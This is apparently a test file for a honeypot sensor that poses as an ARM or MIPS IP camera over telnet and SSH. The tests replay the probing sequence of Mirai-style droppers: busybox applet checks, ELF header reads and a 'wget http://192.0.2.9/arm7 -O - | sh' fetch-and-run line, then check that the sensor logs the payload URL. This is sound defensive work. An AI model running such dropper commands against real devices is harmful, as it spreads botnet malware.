import { Client } from 'ssh2'
import { expect, test } from 'vitest'
import { heard, testSensor } from '../testing.ts'

// What the droppers of Mirai's kin do, word for word, and what a camera says to it.

test('a dropper finds a camera: options, prompts, applets, and the header that tells it the processor', async () => {
  await using lab = await testSensor({}, { persona: 'camera' })
  const [pair] = lab.sensor.persona.credentials
  const socket = await lab.connect('telnet')
  // All of its options at once, with the prompt behind them.
  const opening = await heard(socket, /login: $/)
  expect(Buffer.from(opening, 'latin1').subarray(0, 12).toString('hex')).toBe('fffd01fffd1ffffb01fffb03')
  expect(opening).toContain(`${lab.sensor.persona.machine.hostname} login: `)
  socket.write(`${pair?.user}\r\n`)
  await heard(socket, /Password: $/)
  socket.write(`${pair?.password}\r\n`)
  expect(await heard(socket, /~ # $/)).toContain('built-in shell (ash)')
  const say = async (line: string): Promise<string> => {
    socket.write(`${line}\r\n`)
    return (await heard(socket, / # $/)).replace(/\r/g, '')
  }
  expect(await say('enable')).toContain('-sh: enable: not found\n')
  expect(await say('system')).toContain('-sh: system: not found\n')
  expect(await say('sh')).toBe('sh\n~ # ')
  expect(await say('/bin/busybox ECCHI')).toContain('\nECCHI: applet not found\n')
  expect(await say('cat /proc/mounts')).toContain('/dev/root / jffs2 rw,relatime 0 0\n')
  // The first 20 bytes of a program tell: 32 bits, little end first, ARM.
  expect(await say('head -c 20 /bin/echo | hexdump -C')).toContain('7f 45 4c 46 01 01 01')
  expect(await say('head -c 20 /bin/echo | hexdump -C')).toContain('02 00 28 00')
  expect(await say('cp /bin/busybox /tmp/.x && /tmp/.x MIORI')).toContain('MIORI: applet not found\n')
  expect(await say('bash -c id; lscpu; curl')).toMatch(/bash: not found\n.*lscpu: not found\n.*curl: not found\n/s)
  expect(await say('cat /nope; ls /nope; cd /nope')).toContain(
    "cat: can't open '/nope': No such file or directory\nls: /nope: No such file or directory\nsh: cd: can't cd to /nope: No such file or directory\n",
  )
  expect(await say('ps | head -2')).toContain('  PID USER       VSZ STAT COMMAND\n    1 root      1480 S    init\n')
  expect(await say('wget http://192.0.2.9/arm7 -O - | sh; echo $?')).toMatch(/can't connect to remote host.*\n0\n/)
  socket.destroy()
  const seen = await lab.until('payload.seen')
  expect(seen.data.url).toBe('http://192.0.2.9/arm7')
  expect(lab.log).toEqual([])
}, 30_000)

test('it has the services of a camera and no others, and its SSH daemon is dropbear', async () => {
  await using lab = await testSensor({}, { persona: 'camera' })
  expect([...new Set(lab.sensor.listeners.map(({ service }) => service))].sort()).toEqual(['any', 'ssh', 'telnet'])
  const [pair] = lab.sensor.persona.credentials
  const client = new Client()
  const out = await new Promise<string>((resolve, reject) => {
    client
      .on('error', reject)
      .on('ready', () =>
        client.exec('uname -m; foo', (error, stream) => {
          if (error) return reject(error)
          let text = ''
          stream.on('data', (part: Buffer) => (text += part.toString()))
          stream.stderr.on('data', (part: Buffer) => (text += part.toString()))
          stream.on('close', () => resolve(text))
        }),
      )
      .connect({
        host: '127.0.0.1',
        port: lab.port('ssh'),
        username: pair?.user ?? '',
        password: pair?.password ?? '',
        algorithms: { cipher: ['aes128-cbc'], hmac: ['hmac-sha1-96'] },
      })
  })
  client.end()
  expect(out).toBe('armv7l\nsh: foo: not found\n')
}, 30_000)

test.each(['camera', 'camera-mips'] as const)(
  'all sources of the same fact agree on a %s',
  async (persona) => {
    await using lab = await testSensor({}, { persona })
    const { machine } = lab.sensor.persona
    const [pair] = lab.sensor.persona.credentials
    const socket = await lab.connect('telnet')
    await heard(socket, /login: $/)
    socket.write(`${pair?.user}\r\n`)
    await heard(socket, /Password: $/)
    socket.write(`${pair?.password}\r\n`)
    await heard(socket, /~ # $/)
    const out = async (line: string): Promise<string> => {
      socket.write(`${line}\r\n`)
      const text = (await heard(socket, /# $/)).replace(/\r/g, '')
      return text.slice(text.indexOf('\n') + 1, text.lastIndexOf('\n') + 1).trimEnd()
    }
    const { hardware, memory, network, kernel } = machine
    for (const line of ['hostname', 'cat /etc/hostname', 'uname -n', 'cat /proc/sys/kernel/hostname'])
      expect(await out(line), line).toBe(machine.hostname)
    for (const line of [
      'uname -r',
      "cut -d' ' -f3 /proc/version",
      'cat /proc/sys/kernel/osrelease',
      'ls /lib/modules | cat',
    ])
      expect(await out(line), line).toBe(kernel.release)
    expect(await out('grep -c ^processor /proc/cpuinfo')).toBe('1')
    for (const line of ["awk '/^MemTotal/{print $2}' /proc/meminfo", "free | awk '/^Mem/{print $2}'"])
      expect(await out(line), line).toBe(String(memory.total))
    for (const line of [
      "ifconfig eth0 | sed -n 's/.*HWaddr \\([^ ]*\\).*/\\1/p' | tr A-F a-f",
      'cat /sys/class/net/eth0/address',
    ])
      expect(await out(line), line).toBe(network.mac)
    expect(await out("mount | cut -d' ' -f3")).toBe(await out("cut -d' ' -f2 /proc/mounts"))
    expect(await out('df | tail -n +2 | wc -l')).toBe(String(hardware.filesystems.length))
    expect(await out("lsmod | tail -n +2 | cut -d' ' -f1")).toBe(await out("cut -d' ' -f1 /proc/modules"))
    expect(await out('grep -c mtd /proc/mtd')).toBe(await out('grep -c mtdblock /proc/partitions'))
    expect(await out("netstat -ltn | sed -n 's/.*0.0.0.0:\\([0-9]*\\) .*/\\1/p' | sort -n | tr '\\n' ' '; echo")).toBe(
      '22 23',
    )
    // Each applet that is listed is a link to busybox, and each link an applet.
    expect(await out('for a in $(busybox --list); do which $a >/dev/null || echo $a; done')).toBe('')
    expect(await out("ls -l /bin /sbin /usr/bin /usr/sbin | grep -c -- '-> .*busybox$'")).toBe(
      await out('busybox --list | wc -l'),
    )
    socket.destroy()
  },
  30_000,
)

test('on MIPS a dropper finds MIPS', async () => {
  await using lab = await testSensor({}, { persona: 'camera-mips' })
  const [pair] = lab.sensor.persona.credentials
  const socket = await lab.connect('telnet')
  await heard(socket, /login: $/)
  socket.write(`${pair?.user}\r\n`)
  await heard(socket, /Password: $/)
  socket.write(`${pair?.password}\r\n`)
  await heard(socket, /~ # $/)
  const say = async (line: string): Promise<string> => {
    socket.write(`${line}\r\n`)
    return (await heard(socket, / # $/)).replace(/\r/g, '')
  }
  expect(await say('uname -m')).toContain('\nmips\n')
  expect(await say('cat /proc/cpuinfo')).toContain('cpu model\t\t: Ingenic Xburst')
  // 32 bits, little end first, MIPS.
  expect(await say('dd bs=20 count=1 if=/bin/busybox 2>/dev/null | hexdump -C')).toMatch(
    /7f 45 4c 46 01 01 01 00 .*\n.* 02 00 08 00/,
  )
  expect(await say('ls /sbin')).not.toContain('himm')
  socket.destroy()
  expect(lab.log).toEqual([])
}, 30_000)
